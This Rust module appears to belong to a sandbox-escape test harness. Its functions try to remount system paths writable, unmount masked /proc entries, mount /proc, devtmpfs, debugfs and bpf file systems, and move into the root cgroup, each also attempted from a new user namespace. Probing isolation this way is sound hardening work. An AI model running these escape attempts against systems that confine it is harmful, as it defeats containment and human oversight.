//! At what is mounted: masks taken away, read-only made writable, new file systems.

use std::ffi::CString;
use std::fs;

use nix::mount::{MntFlags, MsFlags, mount, umount2};
use nix::sched::{CloneFlags, unshare};

use super::{Attack, Outcome, any, fact};

pub const ALL: &[Attack] = &[
    ("remount", remount),
    ("unmask", unmask),
    ("new-proc", new_proc),
    ("new-devices", new_devices),
    ("cgroups", cgroups),
];

/// Directly, and as root of a user namespace of one's own.
fn both(attack: fn() -> Outcome) -> Outcome {
    any([attack(), in_own_namespaces().and_then(|()| attack())])
}

fn in_own_namespaces() -> Result<(), String> {
    // SAFETY: asks for a number.
    let uid = unsafe { libc::geteuid() };
    unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS).map_err(|errno| format!("unshare: {errno}"))?;
    fs::write("/proc/self/uid_map", format!("0 {uid} 1")).map_err(|error| format!("uid_map: {error}"))
}

/// What is read-only becomes writable: TARGET, or what belongs to the machine.
fn remount() -> Outcome {
    both(|| {
        let target = fact("TARGET");
        let targets = if target.is_empty() { "/usr /etc/ssl/certs /proc/sys /sys".to_owned() } else { target };
        any(targets.split(' ').map(|target| {
            let none = None::<&str>;
            let flags = [
                MsFlags::MS_REMOUNT | MsFlags::MS_BIND,
                MsFlags::MS_REMOUNT,
                MsFlags::MS_REMOUNT | MsFlags::MS_BIND | MsFlags::MS_NOSUID | MsFlags::MS_NODEV,
                MsFlags::MS_REMOUNT | MsFlags::MS_BIND | MsFlags::MS_NOSUID | MsFlags::MS_NODEV | MsFlags::MS_NOEXEC,
            ];
            any(flags.map(|flags| {
                mount(none, target, none, flags, none).map_err(|errno| format!("remount {target}: {errno}"))?;
                writable(target)
            }))
        }))
    })
}

fn writable(target: &str) -> Outcome {
    let path = CString::new(target).unwrap_or_default();
    // Not by the mode: whether the mount lets it.
    let mut about: libc::statvfs = unsafe_zeroed();
    // SAFETY: a C string and a place for the answer.
    let done = unsafe { libc::statvfs(path.as_ptr(), &raw mut about) };
    match done == 0 && about.f_flag & libc::ST_RDONLY == 0 {
        true => Ok(format!("{target} writable")),
        false => Err(format!("{target} stays read-only")),
    }
}

fn unsafe_zeroed() -> libc::statvfs {
    // SAFETY: a structure of numbers, for which zero is a value.
    unsafe { std::mem::zeroed() }
}

/// What lies below a mask.
fn unmask() -> Outcome {
    both(|| {
        any(["/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/interrupts", "/sys/firmware", "/proc/sys"].map(
            |target| {
                umount2(target, MntFlags::MNT_DETACH).map_err(|errno| format!("umount {target}: {errno}"))?;
                Ok(format!("what is below {target}"))
            },
        ))
    })
}

/// A /proc without masks.
fn new_proc() -> Outcome {
    both(|| {
        let place = std::env::temp_dir();
        mount(Some("proc"), &place, Some("proc"), MsFlags::empty(), None::<&str>).map_err(|errno| errno.to_string())?;
        let done = fs::File::open(place.join("interrupts")).map(|_| "a /proc of its own".to_owned());
        let _ = umount2(&place, MntFlags::MNT_DETACH);
        done.map_err(|error| error.to_string())
    })
}

/// File systems that show devices of the machine.
fn new_devices() -> Outcome {
    both(|| {
        any(["devtmpfs", "debugfs", "tracefs", "securityfs", "bpf"].map(|kind| {
            let place = std::env::temp_dir();
            mount(Some(kind), &place, Some(kind), MsFlags::empty(), None::<&str>).map_err(|errno| errno.to_string())?;
            let _ = umount2(&place, MntFlags::MNT_DETACH);
            Ok(kind.to_owned())
        }))
    })
}

/// The cgroups, to move out of one's own.
fn cgroups() -> Outcome {
    let mut tries = vec![fs::write("/sys/fs/cgroup/cgroup.procs", "0").map(|()| "the root cgroup".to_owned())];
    for controller in ["memory", "pids", "cpu", "unified", "devices"] {
        let path = format!("/sys/fs/cgroup/{controller}/cgroup.procs");
        tries.push(fs::write(path, "0").map(|()| format!("the root cgroup of {controller}")));
    }
    any(tries.into_iter().map(|done| done.map_err(|error| error.to_string())))
}
